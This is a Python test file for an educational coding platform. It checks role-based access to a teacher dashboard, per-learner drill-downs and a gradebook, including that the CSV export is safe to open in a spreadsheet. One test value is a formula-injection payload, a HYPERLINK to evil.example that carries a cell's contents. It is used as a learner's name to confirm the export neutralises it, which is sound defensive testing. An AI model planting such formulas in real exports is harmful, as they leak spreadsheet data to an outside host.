"""The teacher dashboard, the drill-down and the gradebook through the API and the pages
(SQLite; test_teaching_reports_databases.py runs the queries on PostgreSQL and MariaDB).

Who may read what is tested endpoint by endpoint: a learner of the cohort and a teacher of
another cohort are refused everywhere, a mentor reads all but the gradebook.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from pyroad.accounts.models import Role, User
from pyroad.curriculum.loader import load_catalog
from pyroad.curriculum.model import Exercise
from pyroad.db import transaction
from tests.conftest import CURRICULUM, Learner
from tests.functional.test_teaching_api import SLUG, invite, join, make_cohort, teacher, with_role

HTML = {"accept": "text/html"}
CATALOG, _ = load_catalog(CURRICULUM)
EXERCISE: Exercise = CATALOG.require_exercise(SLUG)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Grades")'


@pytest.fixture
def database_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'pyroad.sqlite3'}"


@dataclass
class Classes:
    """Cohort A (teacher, mentor, learner) and cohort B (its own teacher and learner)."""

    client: TestClient
    teacher: Learner
    mentor: Learner
    learner: Learner
    learner_id: int
    other_teacher: Learner
    other_learner: Learner
    other_learner_id: int
    admin: Learner
    cohort: int
    other_cohort: int


def member_id(staff: Learner, cohort_id: int, email: str) -> int:
    members = staff.get(f"/api/v1/cohorts/{cohort_id}/members").json()
    return int(next(m["user_id"] for m in members if m["email"] == email))


def named(client: TestClient, name: str) -> Learner:
    """A learner with a chosen display name (as they could set it when signing up)."""
    person = Learner(client)
    with transaction(client.app.state.platform.sessions) as session:  # type: ignore[attr-defined]
        user = session.scalar(select(User).where(User.email == person.email))
        assert user is not None
        user.display_name = name
    return person


@pytest.fixture
def classes(client: TestClient) -> Classes:
    ada = teacher(client)
    cohort = make_cohort(ada, "Class A")
    due = (datetime.now(UTC) + timedelta(days=7)).isoformat()
    assigned = ada.post(
        f"/api/v1/cohorts/{cohort}/assignments", json={"exercise_slug": SLUG, "due_at": due}
    )
    assert assigned.status_code == 201, assigned.text
    learner, mentor = named(client, EVIL), Learner(client)
    assert join(learner, invite(ada, cohort)["code"]).status_code == 200
    assert join(mentor, invite(ada, cohort, role="mentor")["code"]).json()["role"] == "mentor"
    bea = teacher(client)
    other = make_cohort(bea, "Class B")
    other_learner = Learner(client)
    assert join(other_learner, invite(bea, other)["code"]).status_code == 200
    return Classes(
        client=client,
        teacher=ada,
        mentor=mentor,
        learner=learner,
        learner_id=member_id(ada, cohort, learner.email),
        other_teacher=bea,
        other_learner=other_learner,
        other_learner_id=member_id(bea, other, other_learner.email),
        admin=with_role(client, Learner(client), Role.ADMIN),
        cohort=cohort,
        other_cohort=other,
    )


def api_paths(c: Classes) -> dict[str, str]:
    base = f"/api/v1/cohorts/{c.cohort}"
    return {
        "dashboard": f"{base}/dashboard",
        "learner": f"{base}/learners/{c.learner_id}",
        "submissions": f"{base}/learners/{c.learner_id}/submissions",
        "gradebook": f"{base}/gradebook",
        "gradebook.csv": f"{base}/gradebook.csv",
    }


def page_paths(c: Classes) -> dict[str, str]:
    base = f"/teach/cohorts/{c.cohort}"
    return {
        "dashboard page": f"{base}/dashboard",
        "learner page": f"{base}/learners/{c.learner_id}",
    }


def browser(client: TestClient, person: Learner) -> TestClient:
    """The person's browser: a cookie session of their own on the shared app."""
    web = TestClient(client.app)
    done = web.post(
        "/login", data={"email": person.email, "password": person.password}, follow_redirects=False
    )
    assert done.status_code == 303, done.text
    return web


def test_a_learner_of_the_cohort_is_refused_every_report(classes: Classes) -> None:
    for name, path in api_paths(classes).items():
        response = classes.learner.get(path)
        assert response.status_code == 403, name
        assert response.json()["detail"].startswith("you are a learner in cohort 'Class A'"), name
    web = browser(classes.client, classes.learner)
    for name, path in page_paths(classes).items():
        page = web.get(path, headers=HTML)
        assert page.status_code == 403, name
        assert 'id="learners"' not in page.text and 'id="learner-submissions"' not in page.text


def test_a_teacher_of_another_cohort_is_told_it_does_not_exist(classes: Classes) -> None:
    for person in (classes.other_teacher, classes.other_learner):
        for name, path in api_paths(classes).items():
            response = person.get(path)
            assert response.status_code == 404, name
            assert response.json()["detail"].startswith(f"no cohort with id {classes.cohort}")
        web = browser(classes.client, person)
        for name, path in page_paths(classes).items():
            assert web.get(path, headers=HTML).status_code == 404, name


def test_a_learner_of_another_cohort_cannot_be_reached_through_mine(classes: Classes) -> None:
    """Staff of A asking for B's learner by id, through A (and the reverse): 404."""
    theirs = f"/api/v1/cohorts/{classes.cohort}/learners/{classes.other_learner_id}"
    for path in (theirs, f"{theirs}/submissions"):
        response = classes.teacher.get(path)
        assert response.status_code == 404
        assert "no learner with id" in response.json()["detail"]
    mine_via_b = f"/api/v1/cohorts/{classes.other_cohort}/learners/{classes.learner_id}"
    assert classes.other_teacher.get(mine_via_b).status_code == 404
    mentor_id = member_id(classes.teacher, classes.cohort, classes.mentor.email)
    as_learner = f"/api/v1/cohorts/{classes.cohort}/learners/{mentor_id}"
    assert classes.teacher.get(as_learner).status_code == 404  # staff are not its learners


def test_a_mentor_reads_the_dashboard_but_not_the_gradebook(classes: Classes) -> None:
    for name, path in api_paths(classes).items():
        response = classes.mentor.get(path)
        if name.startswith("gradebook"):
            assert response.status_code == 403, name
            assert "only a teacher" in response.json()["detail"]
        else:
            assert response.status_code == 200, name
    web = browser(classes.client, classes.mentor)
    page = web.get(page_paths(classes)["dashboard page"], headers=HTML)
    assert page.status_code == 200 and 'id="gradebook-csv"' not in page.text


def test_teachers_and_admins_read_everything_visitors_nothing(classes: Classes) -> None:
    for person in (classes.teacher, classes.admin):
        for name, path in api_paths(classes).items():
            assert person.get(path).status_code == 200, name
        web = browser(classes.client, person)
        for name, path in page_paths(classes).items():
            assert web.get(path, headers=HTML).status_code == 200, name
    for name, path in api_paths(classes).items():
        assert classes.client.get(path).status_code == 401, name
    anonymous = TestClient(classes.client.app)
    for name, path in page_paths(classes).items():
        moved = anonymous.get(path, headers=HTML, follow_redirects=False)
        assert moved.status_code == 303 and moved.headers["location"].startswith("/login"), name


def test_bad_parameters_get_a_precise_422_or_404(classes: Classes) -> None:
    base = f"/api/v1/cohorts/{classes.cohort}"
    checks = {
        f"{base}/dashboard?page=0": (422, "page"),
        f"{base}/dashboard?per_page=501": (422, "per_page"),
        f"{base}/learners/0": (422, "learner_id"),
        f"{base}/learners/{classes.learner_id}/submissions?exercise=Not%20a%20slug": (
            422,
            "exercise",
        ),
        f"{base}/learners/{classes.learner_id}/submissions?exercise=no-such-exercise": (
            404,
            "no exercise with id 'no-such-exercise'",
        ),
        f"{base}/learners/{classes.learner_id}/submissions?limit=101": (422, "limit"),
        "/api/v1/cohorts/99999999999/dashboard": (422, "cohort_id"),
        "/api/v1/cohorts/424242/dashboard": (404, "no cohort with id 424242"),
    }
    for path, (status, words) in checks.items():
        response = classes.teacher.get(path)
        assert response.status_code == status, path
        assert words in response.json()["detail"], (path, response.json())


def test_the_teacher_sees_a_learners_work_from_the_dashboard_down_to_the_tests(
    classes: Classes,
) -> None:
    exercise = EXERCISE
    wrong, right = exercise.wrong_solutions[0][1], exercise.solution
    failed = classes.learner.wait(classes.learner.submit(SLUG, wrong))
    assert failed["verdict"] != "passed"
    assert classes.learner.wait(classes.learner.submit(SLUG, right))["verdict"] == "passed"

    board = classes.teacher.get(f"/api/v1/cohorts/{classes.cohort}/dashboard").json()
    assert board["learners_total"] == 1 and board["stuck"] == []
    row = board["learners"][0]
    assert row["name"] == EVIL and row["attempts"] == 2 and row["assigned_solved"] == 1
    cell = row["assigned"][SLUG]
    assert (cell["status"], cell["attempts"], cell["failed"]) == ("solved", 2, 1)
    assert row["steps"][0]["solved"] == 1 and row["steps"][0]["total"] > 1
    assert board["summary"] == [{"exercise": SLUG, "solved": 1, "overdue": 0}]

    drill = classes.teacher.get(
        f"/api/v1/cohorts/{classes.cohort}/learners/{classes.learner_id}"
    ).json()
    assert drill["exercises"][0]["exercise"] == SLUG and drill["exercises"][0]["assigned"]
    assert drill["exercises"][0]["best_verdict"] == "passed"
    listed = classes.teacher.get(
        f"/api/v1/cohorts/{classes.cohort}/learners/{classes.learner_id}/submissions"
    ).json()
    assert [s["code"] for s in listed] == [right, wrong]  # newest first, with the code
    assert [s["attempt"] for s in listed] == [2, 1]
    assert listed[1]["tests"] and all(t["status"] for t in listed[1]["tests"])
    for test in listed[1]["tests"]:
        if test["hidden"]:  # hidden tests as the learner sees them: no inputs, no output
            assert test["stdout"] == "" and test["diff"] is None and test["shows"] == ""
    older = classes.teacher.get(
        f"/api/v1/cohorts/{classes.cohort}/learners/{classes.learner_id}/submissions"
        f"?before={listed[0]['id']}"
    ).json()
    assert [s["id"] for s in older] == [listed[1]["id"]]

    # The drill-down page, and the submission page it links to (staff may read it).
    web = browser(classes.client, classes.teacher)
    page = web.get(f"/teach/cohorts/{classes.cohort}/learners/{classes.learner_id}", headers=HTML)
    assert page.status_code == 200
    assert f'id="submission-{listed[0]["id"]}"' in page.text and "attempt 2" in page.text
    assert "&lt;" in page.text or "<" not in EVIL  # the name is escaped, never markup
    assert web.get(f"/submissions/{listed[0]['id']}", headers=HTML).status_code == 200
    dashboard_page = web.get(f"/teach/cohorts/{classes.cohort}/dashboard", headers=HTML)
    assert f'id="learner-{classes.learner_id}"' in dashboard_page.text
    assert 'id="gradebook-csv"' in dashboard_page.text


def test_the_gradebook_csv_opens_safely_in_a_spreadsheet(classes: Classes) -> None:
    exercise = EXERCISE
    classes.learner.wait(classes.learner.submit(SLUG, exercise.solution))

    response = classes.teacher.get(f"/api/v1/cohorts/{classes.cohort}/gradebook.csv")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="gradebook-class-a-'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[-1] == "" and len(lines) == 3
    assert lines[1].startswith('"\'=HYPERLINK(""http://evil.example/')
    assert ",passed,1," in lines[1] and ",on time" in lines[1]
    book = classes.teacher.get(f"/api/v1/cohorts/{classes.cohort}/gradebook").json()
    assert book["exercises"][0]["slug"] == SLUG and book["exercises"][0]["due_at"]
    grade = book["learners"][0]["grades"][SLUG]
    assert book["learners"][0]["name"] == EVIL  # JSON carries data as it is
    assert (grade["best_verdict"], grade["attempts"], grade["timing"]) == ("passed", 1, "on time")


def test_the_stuck_learner_is_on_top_and_linked_to_the_failing_attempts(
    classes: Classes,
) -> None:
    exercise = EXERCISE
    stuck = Learner(classes.client)
    assert join(stuck, invite(classes.teacher, classes.cohort)["code"]).status_code == 200
    ids = [stuck.submit(SLUG, exercise.wrong_solutions[0][1]) for _ in range(5)]
    for submission in ids:
        stuck.wait(submission)

    board = classes.teacher.get(f"/api/v1/cohorts/{classes.cohort}/dashboard").json()

    assert [s["reason"] for s in board["stuck"]] == ["failing"]
    assert board["stuck"][0]["exercise"] == SLUG
    assert board["learners"][0]["email"] == stuck.email  # stuck first, before "=HYPERLINK…"
    web = browser(classes.client, classes.teacher)
    page = web.get(f"/teach/cohorts/{classes.cohort}/dashboard", headers=HTML).text
    stuck_id = board["stuck"][0]["learner_id"]
    assert f'<li data-learner="{stuck_id}">' in page
    assert f"/learners/{stuck_id}?exercise={SLUG}" in page
